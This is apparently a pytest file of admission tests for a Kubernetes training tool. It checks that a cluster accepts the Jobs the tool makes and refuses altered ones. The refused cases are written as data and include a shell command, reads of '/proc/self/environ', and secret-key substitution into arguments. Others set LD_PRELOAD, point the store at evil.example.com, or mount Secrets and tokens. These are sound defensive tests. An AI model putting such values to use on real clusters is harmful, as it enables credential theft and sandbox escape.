"""Jobs of people on a real API server: what phase2 makes is accepted, and whatever differs from it is refused."""

import copy

import pytest
from tests.on_cluster.admission.namespaces import (
    CLAIMS,
    COMMON,
    DIGEST,
    IMAGE,
    changed,
    in_container,
    in_pod,
    run,
    transfer,
)
from tests.on_cluster.admission.requests import BOB

from phase2.cluster.request.names import Toleration
from phase2.config.assignments import parse_setting
from phase2.config.request.run_request import RunRequest

pytestmark = pytest.mark.cluster

ACCEPTED = {
    "a run": run,
    "a run by digest": lambda: run(image=f"{IMAGE}@{DIGEST}"),
    "a run with a queue, which begins suspended": lambda: run(queue="team"),
    "a run with a GPU, a priority and a place": lambda: run(
        gpus=1,
        priority="phase2-training",
        node_selector=(("gpu", "h100"),),
        tolerations=(Toleration("gpu", None, "NoSchedule"),),
        affinity={"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": []}},
    ),
    "a run in the sandbox of the administrator": lambda: run(runtime_class="sandbox"),
    "a run with the labels and annotations of the installation": lambda: COMMON.added_to(run()),
    "an offer with the labels and annotations of the installation": lambda: COMMON.added_to(transfer()),
    "a run with four GPUs": lambda: run(gpus=4),
    "a run with a slice of a GPU": lambda: run(gpus=1, gpu_resource="nvidia.com/mig-1g.10gb"),
    "a run with a share of a GPU": lambda: run(gpus=1, gpu_resource="nvidia.com/gpu.shared"),
    "a run with the cache": lambda: run(cache=CLAIMS[0]),
    "a run with another cache that the administrator allows": lambda: run(cache=CLAIMS[1]),
    "a run with a store": lambda: run(store="s3://bucket/team/runs"),
    "a run that evictions spare": lambda: run(protect_hours=12.5),
    "a run of the competition": lambda: run(request=RunRequest(algorithm="cgcnn", competition=True)),
    "a run whose id is no name of a Job": lambda: run("MgO_1"),
    "a run of data on the cache": lambda: run(request=RunRequest(data="/work/cache/a b/x.json"), cache=CLAIMS[0]),
    "a run from another run": lambda: run(
        request=RunRequest(
            from_="s3://bucket/runs/e3nn_lite/run_1", settings=(parse_setting(f"fine_tuning.sha256={'a' * 64}"),)
        )
    ),
    "a run with the annotation of kubectl apply": lambda: changed(
        run(), "metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration", "{}"
    ),
    "an offer of a run": transfer,
    "parts of a run": lambda: transfer("part", "family/run_1", "--only=best.pt", "--store=s3://bucket/runs"),
}

SHELL = ["sh", "-c", "env"]
STRANGER = {
    "name": "other",
    "image": f"{IMAGE}:1",
    "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
}
SECRET = {"secretKeyRef": {"name": "phase2-s3", "key": "AWS_SECRET_ACCESS_KEY"}}


def args(*words):
    return in_container("args", list(words))


def env(name, **source):
    return in_container("env/-", {"name": name, **source})


def volume(**source):
    return in_pod("volumes/-", {"name": "more", **source})


def labelled(key, value):
    """A run with another label, on the Job and on its pod."""
    thing = run()
    for place in (thing, thing["spec"]["template"]):
        if value is None:
            place["metadata"]["labels"].pop(key, None)
        else:
            place["metadata"]["labels"][key] = value
    return thing


def owned(kind, controller=True):
    reference = {"apiVersion": "batch/v1", "kind": kind, "name": "nightly", "uid": "0" * 8, "controller": controller}
    return changed(run(), "metadata/ownerReferences", [reference])


def without_labels_of_a_run():
    """What the nightly Job looks like, from a person who says that a CronJob made it."""
    thing = owned("CronJob")
    for key in ("run-id", "algorithm", "mode", "level"):
        del thing["metadata"]["labels"][f"phase2.dev/{key}"]
    return thing


def with_other_id():
    """A run under the id of another person's, so that its pod would write that one's files."""
    return in_container("env/0/value", "of-bob")


def under_other_name():
    return changed(run(), "metadata/name", "phase2-nightly-29384756")


def twice():
    thing = run()
    pod = thing["spec"]["template"]["spec"]
    pod["containers"].append({**copy.deepcopy(pod["containers"][0]), "name": "again"})
    return thing


REFUSED = {
    # What a container runs
    "a device of the node": (lambda: run(gpus=1, gpu_resource="smarter-devices/fuse"), "requests.smarter-devices/fuse"),
    "a shell": (lambda: in_container("command", SHELL), "containers[0].command"),
    "the program of phase2 itself as command": (lambda: in_container("command", ["phase2"]), "containers[0].command"),
    "another command of phase2": (lambda: args("runs", "delete", "family/run_1", "--yes"), "containers[0].args"),
    "the commands of a sweep": (lambda: args("sweep", "--seeds", "1"), "containers[0].args"),
    "the keys of the store as an argument": (lambda: args("train", "--data", "$(AWS_SECRET_ACCESS_KEY)"), "args"),
    "the environment as data": (lambda: args("train", "--data", "/proc/self/environ"), "containers[0].args"),
    "the environment as data by --set": (lambda: args("train", "--set", "data.source=/proc/self/environ"), "args"),
    "a path that leaves the cache": (lambda: args("train", "--data", "/work/cache/../../proc/1/environ"), "args"),
    "a path by way of a hidden folder": (lambda: args("train", "--data", "/work/cache/.x/y.json"), "args"),
    "the folder above": (lambda: args("train", "--data", ".."), "containers[0].args"),
    "the home of a user": (lambda: args("train", "--data", "~root"), "containers[0].args"),
    "half a tag of another registry": (
        lambda: in_container("image", f"{IMAGE}:5000/evil:1"),
        f"Image not approved: {IMAGE}:5000/evil:1.",
    ),
    "another output": (lambda: args("train", "--output", "models"), "containers[0].args"),
    "another output in one word": (lambda: args("train", "--output=models"), "containers[0].args"),
    "an option that is known elsewhere": (lambda: args("train", "--over", "training.lr=1,2"), "containers[0].args"),
    "a configuration file": (lambda: args("train", "--config", "s3://bucket/x.yaml"), "containers[0].args"),
    "a run of another server": (lambda: args("train", "--from", "http://evil.example.com/best.pt"), "args"),
    "control characters": (lambda: args("train", "--data", "sample\u001b[2J"), "containers[0].args"),
    "no arguments": (lambda: in_container("args", None), "containers[0].args"),
    "an argument without end": (lambda: args("train", "--data", "x" * 5000), "containers[0].args"),
    "another working folder": (lambda: in_container("workingDir", "/tmp"), "containers[0].workingDir"),
    "a hook that runs a command": (
        lambda: in_container("lifecycle", {"preStop": {"exec": {"command": SHELL}}}),
        "containers[0].lifecycle",
    ),
    "a probe that runs a command": (
        lambda: in_container("readinessProbe", {"exec": {"command": SHELL}}),
        "containers[0].readinessProbe",
    ),
    "the probe of ours with another program": (
        lambda: in_container(
            "readinessProbe/exec/command/2", "import os; print(os.environ)", run(protect_hours=1)
        ),
        "containers[0].readinessProbe",
    ),
    "another probe": (
        lambda: in_container("livenessProbe", {"exec": {"command": SHELL}}),
        "containers[0].livenessProbe",
    ),
    "a start probe": (
        lambda: in_container("startupProbe", {"exec": {"command": SHELL}}),
        "containers[0].startupProbe",
    ),
    "an init container": (lambda: in_pod("initContainers", [STRANGER]), "spec.template.spec.initContainers"),
    "a second container": (twice, "spec.template.spec.containers"),
    # Images
    "a foreign image": (lambda: run(image="docker.io/other:1"), "Image not approved: docker.io/other:1."),
    "an image with a name like ours": (lambda: run(image=f"{IMAGE}-other:1"), "Image not approved"),
    "a foreign image of an init container": (
        lambda: in_pod("initContainers", [{**STRANGER, "image": "docker.io/other:1"}]),
        "Image not approved: docker.io/other:1.",
    ),
    # Environment
    "other GPUs than it reserves": (lambda: env("PHASE2_GPUS", value="8"), "env.PHASE2_GPUS"),
    "GPUs that are cores": (lambda: env("PHASE2_GPUS", value="2"), "env.PHASE2_GPUS"),
    "a variable of Python": (lambda: env("PYTHONPATH", value="/work/cache"), "env.PYTHONPATH"),
    "a variable of the linker": (lambda: env("LD_PRELOAD", value="/work/cache/x.so"), "env.LD_PRELOAD"),
    "another server of the store": (lambda: env("AWS_ENDPOINT_URL_S3", value="https://evil.example.com"), "env.AWS"),
    "another cache folder": (lambda: env("PHASE2_CACHE_DIR", value="/proc"), "env.PHASE2_CACHE_DIR"),
    "a store on another server": (lambda: env("PHASE2_STORE", value="https://evil.example.com"), "env.PHASE2_STORE"),
    "a store with a dollar": (lambda: env("PHASE2_STORE", value="s3://b/$(AWS_SECRET_ACCESS_KEY)"), "PHASE2_STORE"),
    "a key of the store as a variable": (lambda: env("PHASE2_STORE", valueFrom=SECRET), "env.PHASE2_STORE"),
    "a key of the store under our name": (lambda: env("HOME", valueFrom=SECRET), "env.HOME"),
    "another field of the pod": (
        lambda: env("PHASE2_POD_NAME", valueFrom={"fieldRef": {"fieldPath": "status.hostIP"}}),
        "env.PHASE2_POD_NAME",
    ),
    "another key of the ConfigMap": (
        lambda: env("PHASE2_METRICS_PORT", valueFrom={"configMapKeyRef": {"name": "other", "key": "x"}}),
        "env.PHASE2_METRICS_PORT",
    ),
    "a wrong digest": (lambda: env("PHASE2_IMAGE_DIGEST", value=f"sha256:{'1' * 64}"), "env.PHASE2_IMAGE_DIGEST"),
    "the id of another's run": (with_other_id, "env.PHASE2_RUN_ID"),
    "every Secret of the namespace": (
        lambda: in_container("envFrom/-", {"secretRef": {"name": "minio-root"}}),
        "containers[0].envFrom",
    ),
    "another Secret in place of ours": (
        lambda: in_container("envFrom/1", {"secretRef": {"name": "minio-root"}}),
        "containers[0].envFrom",
    ),
    "another ConfigMap": (
        lambda: in_container("envFrom/0", {"configMapRef": {"name": "other"}}),
        "containers[0].envFrom",
    ),
    "the Secret under a prefix": (
        lambda: in_container("envFrom/1", {"prefix": "X_", "secretRef": {"name": "phase2-s3"}}),
        "containers[0].envFrom",
    ),
    "no settings of the store": (lambda: in_container("envFrom", []), "containers[0].envFrom"),
    # Volumes
    "a Secret as a volume": (lambda: volume(secret={"secretName": "minio-root"}), "volumes.more"),
    "a projected token": (
        lambda: volume(projected={"sources": [{"serviceAccountToken": {"path": "token"}}]}),
        "volumes.more",
    ),
    "the claim of the store": (lambda: run(cache="minio"), "volumes.cache"),
    "a claim under another name": (
        lambda: volume(persistentVolumeClaim={"claimName": CLAIMS[0]}),
        "volumes.more",
    ),
    "another ConfigMap as certificates": (
        lambda: in_pod("volumes/3/configMap/name", "other"),
        "volumes.ca",
    ),
    "a folder over the certificates of the image": (
        lambda: in_container("volumeMounts/-", {"name": "work", "mountPath": "/etc"}),
        "volumeMounts.work",
    ),
    "a part of a volume": (
        lambda: in_container("volumeMounts/0/subPath", "x"),
        "volumeMounts.work",
    ),
    # Pod and Job
    "the user of the image": (lambda: in_pod("securityContext/runAsUser", 1), "spec.template.spec.securityContext"),
    "another group of files": (lambda: in_pod("securityContext/fsGroup", 5), "spec.template.spec.securityContext"),
    "further groups": (
        lambda: in_pod("securityContext/supplementalGroups", [0]),
        "spec.template.spec.securityContext",
    ),
    "a root file system that is written": (
        lambda: in_container("securityContext/readOnlyRootFilesystem", False),
        "containers[0].securityContext",
    ),
    "another user of the container": (
        lambda: in_container("securityContext/runAsUser", 5),
        "containers[0].securityContext",
    ),
    "another service account": (lambda: in_pod("serviceAccountName", "default"), "phase2-runner, which has no rights"),
    "a token": (lambda: in_pod("automountServiceAccountToken", True), "A run has no token of the API server"),
    "a node by its name": (lambda: in_pod("nodeName", "node-1"), "spec.template.spec.nodeName"),
    "another scheduler": (lambda: in_pod("schedulerName", "mine"), "spec.template.spec.schedulerName"),
    "another runtime": (lambda: in_pod("runtimeClassName", "runc"), "spec.template.spec.runtimeClassName"),
    "other names of hosts": (
        lambda: in_pod("hostAliases", [{"ip": "203.0.113.1", "hostnames": ["s3.example.com"]}]),
        "spec.template.spec.hostAliases",
    ),
    "another name server": (
        lambda: in_pod("dnsConfig", {"nameservers": ["203.0.113.1"]}),
        "spec.template.spec.dnsConfig",
    ),
    "names of the node": (lambda: in_pod("dnsPolicy", "Default"), "spec.template.spec.dnsPolicy"),
    "a Secret to pull with": (
        lambda: in_pod("imagePullSecrets", [{"name": "other"}]),
        "spec.template.spec.imagePullSecrets",
    ),
    "processes of the other containers": (
        lambda: in_pod("shareProcessNamespace", True),
        "spec.template.spec.shareProcessNamespace",
    ),
    "addresses of services": (lambda: in_pod("enableServiceLinks", True), "spec.template.spec.enableServiceLinks"),
    "a priority of the system": (
        lambda: run(priority="system-cluster-critical"),
        "spec.template.spec.priorityClassName",
    ),
    "a day to end in": (
        lambda: in_pod("terminationGracePeriodSeconds", 86400),
        "spec.template.spec.terminationGracePeriodSeconds",
    ),
    "a name of its own": (lambda: in_pod("hostname", "minio"), "spec.template.spec.hostname"),
    "a subdomain": (lambda: in_pod("subdomain", "minio"), "spec.template.spec.subdomain"),
    "restarts without end": (lambda: in_pod("restartPolicy", "OnFailure"), "spec.template.spec.restartPolicy"),
    "a port of another number": (lambda: in_container("ports/0/containerPort", 80), "containers[0].ports"),
    "a claim of devices": (
        lambda: in_pod("resourceClaims", [{"name": "x", "resourceClaimName": "y"}]),
        "spec.template.spec.resourceClaims",
    ),
    "standard input": (lambda: in_container("stdin", True), "containers[0].stdin"),
    "a message from another file": (
        lambda: in_container("terminationMessagePath", "/tmp/x"),
        "containers[0].terminationMessagePath",
    ),
    "a hundred pods": (lambda: changed(run(), "spec/parallelism", 100), "spec.parallelism"),
    "a pod of a group that has none": (
        lambda: changed(run(), "spec/template/metadata/labels/phase2.dev~1group", "true"),
        "spec.completions",
    ),
    "a thousand nodes": (lambda: changed(run(nodes=2), "spec/completions", 1000), "spec.completions"),
    "fewer pods than a group has": (lambda: changed(run(nodes=2), "spec/parallelism", 1), "spec.parallelism"),
    "a group that ends with any pod": (
        lambda: changed(run(nodes=2), "spec/successPolicy/rules/0/succeededIndexes", "1"),
        "spec.successPolicy",
    ),
    "a group at another address": (
        lambda: in_pod("subdomain", "minio", run(nodes=2)),
        "spec.template.spec.subdomain",
    ),
    "a thousand completions": (lambda: changed(run(), "spec/completions", 1000), "spec.completions"),
    "retries without end": (lambda: changed(run(), "spec/backoffLimit", 100_000), "spec.backoffLimit"),
    "another controller": (lambda: changed(run(), "spec/managedBy", "example.com/mine"), "spec.managedBy"),
    "final failures that are tried again": (
        lambda: changed(run(), "spec/podFailurePolicy", None),
        "spec.podFailurePolicy",
    ),
    # Labels, annotations, owners
    "no id": (lambda: labelled("phase2.dev/run-id", None), "missing: phase2.dev/run-id. Use phase2 submit."),
    "an unknown algorithm": (lambda: labelled("phase2.dev/algorithm", "e3n"), "Unknown algorithm e3n: it is one of"),
    "an unknown mode": (lambda: labelled("phase2.dev/mode", "huge"), "Unknown mode huge: it is one of smoke, lite"),
    "another level": (lambda: labelled("phase2.dev/level", "std"), "phase2.dev/level repeats phase2.dev/mode"),
    "the network of the observer": (lambda: labelled("phase2.dev/observer", "phase2"), "labels.phase2.dev/observer"),
    "a label of the cluster": (lambda: labelled("azure.workload.identity/use", "true"), "labels.azure.workload"),
    "a pod with other labels than its Job": (
        lambda: changed(run(), "spec/template/metadata/labels/phase2.dev~1run-id", "of-bob"),
        "spec.template.metadata.labels.phase2.dev/run-id",
    ),
    "an annotation that another program acts on": (
        lambda: changed(run(), "spec/template/metadata/annotations/vault.hashicorp.com~1agent-inject", "true"),
        "annotations.vault.hashicorp.com/agent-inject",
    ),
    "an annotation of the Job for another program": (
        lambda: changed(run(), "metadata/annotations/example.com~1x", "true"),
        "metadata.annotations.example.com/x",
    ),
    "a pod that evictions spare for ever": (
        lambda: changed(run(), "spec/template/metadata/labels/phase2.dev~1protected", "true"),
        "labels.phase2.dev/protected",
    ),
    "a pod that evictions spare for years": (
        lambda: in_container("readinessProbe/exec/command/3", "99999", run(protect_hours=1)),
        "containers[0].readinessProbe",
    ),
    "a name that the server makes": (
        lambda: changed(changed(run(), "metadata/name", None), "metadata/generateName", "phase2-"),
        "metadata.generateName",
    ),
    "the name of another Job": (under_other_name, "metadata.name"),
    "a Job of a CronJob that is none": (without_labels_of_a_run, "missing: phase2.dev/run-id"),
    "an owner": (lambda: owned("CronJob"), "metadata.ownerReferences"),
    "an owner of another kind": (lambda: owned("ConfigMap", controller=False), "metadata.ownerReferences"),
    "a finalizer": (lambda: changed(run(), "metadata/finalizers", ["example.com/mine"]), "metadata.finalizers"),
    "the run of another person": (
        lambda: changed(run(), "metadata/annotations/phase2.dev~1owner", BOB),
        f"says {BOB}, and you are alice@example.com",
    ),
    # The Job that hands a run out
    "a transfer that trains": (lambda: transfer_with("args", ["train"]), "of the component transfer"),
    "a transfer that steals": (lambda: transfer_with("args", ["transfer", "steal", "run"]), "containers[0].args"),
    "a transfer of the keys": (
        lambda: transfer_with("args", ["transfer", "offer", "$(AWS_SECRET_ACCESS_KEY)"]),
        "containers[0].args",
    ),
    "a transfer to another server": (
        lambda: transfer_with("args", ["transfer", "offer", "run", "--store=https://evil.example.com"]),
        "containers[0].args",
    ),
    "a transfer out of the store": (
        lambda: transfer_with("args", ["transfer", "part", "../other/run", "--only=best.pt"]),
        "containers[0].args",
    ),
    "a transfer with a shell": (lambda: transfer_with("command", SHELL), "containers[0].command"),
    "a transfer with a variable": (lambda: transfer_with("env/-", {"name": "PYTHONPATH", "value": "/"}), "PYTHONPATH"),
    "a transfer with another ConfigMap": (
        lambda: transfer_with("envFrom/0", {"configMapRef": {"name": "other"}}),
        "containers[0].envFrom",
    ),
    "a transfer without an end": (
        lambda: changed(transfer(), "spec/activeDeadlineSeconds", None),
        "spec.activeDeadlineSeconds",
    ),
    "a transfer that is listed as a run": (
        lambda: changed(transfer(), "metadata/labels/phase2.dev~1run-id", "a-run"),
        "metadata.labels.phase2.dev/run-id",
    ),
    "a transfer whose pod is another component's": (
        lambda: changed(transfer(), "spec/template/metadata/labels/app.kubernetes.io~1component", "observer"),
        "spec.template.metadata.labels.app.kubernetes.io/component",
    ),
}  # fmt: skip


def transfer_with(path, value):
    return in_container(path, value, transfer())


@pytest.mark.parametrize("case", ACCEPTED)
def test_what_phase2_makes_is_accepted(alice, case):
    assert alice.create(ACCEPTED[case]()) is None


@pytest.mark.parametrize("case", REFUSED)
def test_what_differs_is_refused_and_the_difference_named(alice, case):
    make, words = REFUSED[case]
    assert words in (alice.create(make()) or "it was accepted")


@pytest.mark.parametrize("field", ["hostNetwork", "hostPID", "hostIPC"])
def test_the_node_is_out_of_reach(alice, field):
    answer = alice.create(in_pod(field, True)) or "it was accepted"
    assert f"spec.template.spec.{field}" in answer or "PodSecurity" in answer


def test_a_maintainer_makes_nothing_else_either(maintainer):
    assert maintainer.create(run()) is None
    assert "containers[0].command" in (maintainer.create(in_container("command", SHELL)) or "it was accepted")


def test_the_controller_of_cron_jobs_makes_jobs_of_an_approved_image(person):
    controller = person("system:serviceaccount:kube-system:cronjob-controller")
    scheduled = in_container("command", SHELL, without_labels_of_a_run())
    assert controller.create(scheduled) is None
    foreign = in_container("image", "docker.io/other:1", scheduled)
    assert "Image not approved: docker.io/other:1." in (controller.create(foreign) or "it was accepted")


def test_an_administrator_makes_a_job_by_hand_of_an_approved_image(administrator):
    by_hand = in_container("command", SHELL, without_labels_of_a_run())
    assert administrator.create(by_hand) is None
    foreign = in_container("image", "docker.io/other:1", by_hand)
    assert "Image not approved: docker.io/other:1." in (administrator.create(foreign) or "it was accepted")
